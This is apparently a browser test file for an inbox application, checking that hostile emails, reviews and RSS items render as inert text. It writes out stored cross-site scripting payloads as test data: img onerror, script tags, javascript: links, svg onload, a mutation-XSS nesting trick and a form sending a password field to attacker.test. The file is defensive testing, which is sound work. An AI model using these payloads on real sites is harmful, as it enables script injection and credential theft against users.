"""Attacks 4 and 5 in a real browser: stored XSS through an e-mail's subject, sender and HTML
body, a review, an RSS item's title and link. Each arrives through its connector's real parser
and is opened in chromium: the text is there as text, no script runs, no dialog opens, no element
of the sender's making (image, frame, form, link to `javascript:`) is in the page."""

from __future__ import annotations

from typing import Any

import pytest

from cercle.connectors.base import RawEventData
from cercle.connectors.email.inbound import envelope
from cercle.connectors.registry import connector_for
from cercle.inbox.actions import do_receive
from cercle.pipeline.actions import do_create_channel
from tests.browser.conftest import login
from tests.conftest import sim_body, sim_event

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

PAYLOAD = "<img src=x onerror=alert('{}')>"

HOSTILE_MAIL = (
    "From: =?utf-8?q?=3Cimg_src=3Dx_onerror=3Dalert=28=27from=27=29=3E?= <evil@attacker.test>\r\n"
    "To: support@lumen.test\r\n"
    "Subject: <img src=x onerror=alert('subject')> <script>alert('subject2')</script>\r\n"
    "Message-ID: <hostile-1@attacker.test>\r\n"
    "Date: Mon, 30 Nov 2026 09:00:00 +0000\r\n"
    "MIME-Version: 1.0\r\n"
    "Content-Type: text/html; charset=utf-8\r\n"
    "\r\n"
    "<html><head><style>body{display:none}</style>"
    "<script>alert('body-script')</script></head>"
    "<body onload=\"alert('onload')\">"
    "<p>Bonjour <b>équipe</b></p>"
    '<img src="http://127.0.0.1:9/track.png" width=1 height=1>'
    "<iframe src=\"javascript:alert('frame')\"></iframe>"
    "<svg onload=\"alert('svg')\"><circle r=1></circle></svg>"
    "<a href=\"javascript:alert('link')\">cliquez ici</a>"
    '<form action="https://attacker.test/"><input name=password></form>'
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph>"
    "</table></mtext></math>"
    "</body></html>\r\n"
).encode()

HOSTILE_FEED = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Carnet</title><link>https://carnet-deco.example/</link>
<item>
  <title>&amp;lt;img src=x onerror=alert('rss-title')&amp;gt; Lampe &lt;script&gt;alert('t2')&lt;/script&gt;</title>
  <link>javascript:alert('rss-link')</link>
  <guid>item-1</guid>
  <description>&lt;a href="javascript:alert('desc')"&gt;lire&lt;/a&gt;</description>
  <author>x@y.test (&lt;svg onload=alert('author')&gt;)</author>
</item>
<item>
  <title>Second article</title>
  <link>https://carnet-deco.example/a?x="&gt;&lt;script&gt;alert('href')&lt;/script&gt;</link>
  <guid>item-2</guid>
  <description>texte</description>
</item>
</channel></rss>"""


def _receive(channel: Any, body: bytes) -> None:
    items = connector_for(channel).parse(RawEventData(body=body))
    assert items
    do_receive(channel, items)


def _assert_inert(page: Any) -> None:
    """Nothing the senders wrote became an element or ran."""
    page.wait_for_timeout(400)  # let any (wrongly) injected handler fire before checking
    assert page.dialogs == []
    for selector in ("img", "iframe", "script:not([src])", "form[action^='https://attacker']"):
        inside = page.locator(f"#timeline {selector}, #list {selector}")
        assert inside.count() == 0, selector
    hrefs = page.eval_on_selector_all(
        "#timeline a[href], #list a[href]", "els => els.map(e => e.getAttribute('href'))"
    )
    assert not [h for h in hrefs if h.strip().lower().startswith(("javascript:", "data:"))]
    assert (
        page.locator("#timeline svg[onload], #timeline [onerror], #timeline [onload]").count() == 0
    )


def _open(page: Any, text: str) -> None:
    page.goto("/")
    page.wait_for_selector("#list")
    page.locator(".conv-row", has_text=text).first.locator("a").first.click()
    page.wait_for_selector("#timeline .item-inbound")


def test_a_hostile_email_subject_sender_and_html_body_stay_inert(page, owner, workspace, settings):
    settings.CERCLE_EGRESS_ALLOW_HOSTS = ["127.0.0.1"]
    channel = do_create_channel(
        workspace,
        "email",
        "Lumen support",
        external_id="support@lumen.test/INBOX",
        config={
            "from_address": "support@lumen.test",
            "imap_host": "127.0.0.1",
            "imap_port": "1143",
            "imap_tls": "none",
            "imap_user": "support@lumen.test",
            "mailbox": "INBOX",
            "smtp_host": "127.0.0.1",
            "smtp_port": "1025",
            "smtp_tls": "none",
        },
        credentials={"imap_password": "x"},
    )
    _receive(channel, envelope("INBOX", 1, {1: HOSTILE_MAIL}))
    login(page, "lea")
    list_text = page.inner_text("#list")
    assert "onerror=alert('subject')" in list_text or "alert('from')" in list_text
    _open(page, "alert(")
    timeline = page.inner_text("#timeline")
    # The subject is shown as text; the HTML body became its text (no markup, no remote image).
    assert "<img src=x onerror=alert('subject')>" in timeline
    assert "Bonjour équipe" in timeline
    assert "cliquez ici" in timeline
    _assert_inert(page)


def test_a_hostile_review_stays_inert(page, owner, sim_channel):
    _receive(
        sim_channel,
        sim_body(
            sim_event(
                "r1",
                type="review",
                rating=1,
                text=PAYLOAD.format("review") + " <svg onload=alert('review2')>",
                author={"id": "rev", "name": PAYLOAD.format("reviewer")},
            )
        ),
    )
    login(page, "lea")
    _open(page, "alert('review')")
    assert PAYLOAD.format("review") in page.inner_text("#timeline .item-inbound .text")
    _assert_inert(page)


def test_a_hostile_rss_title_and_link_stay_inert(page, owner, workspace, settings):
    channel = do_create_channel(
        workspace,
        "rss",
        "Carnet déco",
        config={"feed_url": "https://carnet-deco.example/feed.xml", "keywords": ""},
    )
    _receive(channel, HOSTILE_FEED)
    login(page, "lea")
    _open(page, "rss-title")
    timeline = page.inner_text("#timeline")
    # Markup in a title is taken out by the parser; markup written as text stays text.
    assert "<img src=x onerror=alert('rss-title')> Lampe" in timeline
    assert "<svg onload=alert('author')>" in timeline  # the byline, as text
    _assert_inert(page)
    _open(page, "Second article")
    _assert_inert(page)
    # The link with markup in its query is an escaped attribute value, not a new element.
    hrefs = page.eval_on_selector_all(
        "#timeline a[href*='carnet-deco']", "els => els.map(e => e.getAttribute('href'))"
    )
    assert all("<script>" in h or "%3Cscript%3E" in h for h in hrefs)
